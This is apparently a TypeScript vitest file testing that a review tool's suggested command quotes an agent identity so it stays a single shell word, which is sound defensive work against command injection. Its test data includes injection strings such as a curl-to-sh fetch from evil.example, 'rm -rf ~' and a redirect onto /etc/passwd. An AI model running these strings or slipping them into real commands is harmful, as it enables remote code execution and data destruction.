// An operator registers an agent whose identity is written in a shell's language. A review proposes a command that names
// it, and the person who copies the line runs what the identity says.

import { expect, test } from 'vitest';
import { commandText } from '../../src/core/review/command-text.ts';

/** As POSIX says: unquoted plain words, and single quotes in which nothing is special. */
function wordsOf(line: string): string[] {
  const words = line.match(/(?:'[^']*'|\\'|[A-Za-z0-9_./:=,@-])+/g) ?? [];
  expect(words.join(' ')).toBe(line);
  return words.map((word) => word.replaceAll("'\\''", '\0').replaceAll("'", '').replaceAll('\0', "'"));
}

test.each([
  'x;curl$IFS"https"://evil.example/k|sh;$(id)',
  '`id`',
  'a && rm -rf ~',
  "it's '; id; '",
  '> /etc/passwd',
  '!!',
  '*',
  '#',
  '',
  'https://ci.acme.dev repo:acme/reports:environment:prod',
])('[REVIEW-15] %s is one word of the command', (word) => {
  const command = ['remit', 'agents', 'update', 'reporter', '--remove-binding', word, '--reason', 'not used'];
  expect(wordsOf(commandText(command))).toEqual(command);
});
